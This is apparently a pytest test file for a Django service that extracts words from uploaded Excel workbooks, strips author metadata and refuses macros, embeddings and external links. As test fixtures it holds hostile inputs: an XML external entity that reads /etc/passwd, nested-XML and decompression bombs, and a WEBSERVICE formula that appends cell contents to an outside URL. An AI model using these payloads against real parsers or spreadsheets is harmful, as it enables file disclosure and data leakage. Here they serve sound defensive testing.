"""Workbooks: their words are read in a child process, whatever the bytes; who made them is taken out, and what acts is refused."""

import io

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from resources.content import sheet_reading
from resources.content.file_words import FileWords, read_words
from resources.content.stripping_sheets import strip_xlsx
from tests.factories.papers import docx, parts_of
from tests.factories.sheets import changed, noted, workbook

ENTITY = b'<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
NESTED = b"<worksheet>" + b"<row>" * 5000 + b"</row>" * 5000 + b"</worksheet>"


def words(data):
    return read_words(data, "a.xlsx").words.split("\n")


def test_names_of_sheets_rows_and_notes_are_read_and_numbers_are_not():
    def more(book):
        noted(book)
        book.create_sheet("Burimet").append(["INSTAT", 2024, 3.5, None, "=1+1"])

    assert words(workbook(more=more)) == ["Fleta", "Burimet", "Shkolla Qyteti", "Naim Frashëri Durrës", "INSTAT", "Kjo kolonë mungon."]


def test_words_that_stand_in_their_cells_and_what_formulas_came_to_are_read():
    rows = b"""<row><c t="inlineStr"><is><r><t>Fj</t></r><r><t>ala</t></r><rPh><t>zo</t></rPh></is></c><c t="str"><f>A1</f><v>tjera</v></c>
    <c t="s"><v>99</v></c><c t="s"><v>-1</v></c><c><v>7</v></c><c t="b"><v>1</v></c></row>"""
    data = changed(workbook(), xl__worksheets__sheet1_DOT_xml=b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>")
    assert words(data) == ["Fleta", "Fjala tjera"]


def test_what_is_said_again_and_again_is_read_once_and_there_is_an_end(monkeypatch):
    assert words(workbook(*[("po", "jo")] * 300)) == ["Fleta", "po jo"]
    monkeypatch.setattr(sheet_reading, "MOST_CHARACTERS", 100)
    assert len(sheet_reading.words_of(workbook(*((f"fjala {number}",) for number in range(300))))) < 150
    monkeypatch.setattr(sheet_reading, "MOST_CELLS", 3)
    assert sheet_reading.words_of(workbook(("a", "b"), ("c", "d"), ("e", "f"))).endswith("c d")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"PK\x03\x04broken", "broken"),
        (docx(), "broken"),
        (workbook((1, 2), title="1"), "pictures"),
        (changed(workbook(), xl__worksheets__sheet1_DOT_xml=ENTITY + b"<worksheet/>"), "broken"),
        (changed(workbook(), xl__worksheets__sheet1_DOT_xml=NESTED), "broken"),
        (changed(workbook(), xl__worksheets__sheet1_DOT_xml=b"<worksheet>" + b" " * 40_000_000 + b"</worksheet>"), "broken"),
        (changed(workbook(), xl__sharedStrings_DOT_xml=b"<sst>" + b"<si><t>a</t></si>" * 3_000_000 + b"</sst>"), "broken"),
    ],
    ids=["no archive", "a text", "numbers alone", "an entity", "nested", "a bomb", "too many strings"],
)
def test_no_words_and_why(data, reason):
    assert read_words(data, "a.xlsx") == FileWords(reason=reason)


def test_what_is_kept_names_nobody_and_opens_as_before():
    def saved_where(book):
        path = b'<fileSharing userName="Arta Shembull"/><workbookPr'
        return book.replace(b"<workbookPr", path, 1)

    kept = strip_xlsx(changed(workbook(more=noted), xl__workbook_DOT_xml=saved_where))
    assert not any(b"Arta" in part for part in parts_of(kept).values())
    sheet = load_workbook(io.BytesIO(kept)).active
    assert [[cell.value for cell in row] for row in sheet] == [["Shkolla", "Qyteti"], ["Naim Frashëri", "Durrës"]]
    assert sheet["A1"].comment.text == "Kjo kolonë mungon."
    assert strip_xlsx(kept) == kept


def test_a_printer_is_forgotten_and_the_workbook_opens():
    settings = b'<pageSetup xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"/></worksheet>'
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/printerSettings"
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="%s" Target="../printerSettings/printerSettings1.bin"/></Relationships>' % relation.encode()
    )
    data = changed(
        workbook(),
        xl__printerSettings__printerSettings1_DOT_bin=b"Zyra 12",
        xl__worksheets___rels__sheet1_DOT_xml_DOT_rels=relations,
        xl__worksheets__sheet1_DOT_xml=lambda sheet: sheet.replace(b"</worksheet>", settings),
    )
    kept = parts_of(strip_xlsx(data))
    assert not any(b"Zyra 12" in part or b"rId9" in part for part in kept.values())
    assert load_workbook(io.BytesIO(strip_xlsx(data))).active["A1"].value == "Shkolla"


def formula(text):
    return workbook((text,))


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (changed(workbook(), xl__vbaProject_DOT_bin=b"\xd0\xcf"), "macros"),
        (changed(workbook(), xl__macrosheets__sheet1_DOT_xml=b"<x/>"), "macros"),
        (
            changed(workbook(), **{"[Content_Types]_DOT_xml": lambda types: types.replace(b"sheet.main", b"sheet.macroEnabled.main")}),
            "macros",
        ),
        (changed(workbook(), xl__embeddings__a_DOT_bin=b"x"), "embedded"),
        (changed(workbook(), xl__externalLinks__externalLink1_DOT_xml=b"<ddeLink/>"), "outside"),
        (changed(workbook(), xl__connections_DOT_xml=b"<connections/>"), "outside"),
        (formula('=WEBSERVICE("http://a.al/"&A2)'), "outside"),
        (formula('=_xlfn.IMAGE("http://a.al/a.png")'), "outside"),
        (docx(), "kind"),
        (changed(workbook(), xl__workbook_DOT_xml=ENTITY + b"<workbook/>"), "doctype"),
        (changed(workbook(), xl__media__a_DOT_bin=b"\0" * 60_000_000), "bomb"),
    ],
)
def test_what_acts_or_takes_from_elsewhere_is_refused(data, code):
    with pytest.raises(ValidationError) as refused:
        strip_xlsx(data)
    assert refused.value.code == code


def test_a_formula_that_reckons_is_kept():
    assert b"SUM(" in b"".join(parts_of(strip_xlsx(formula("=SUM(B1:B2)"))).values())
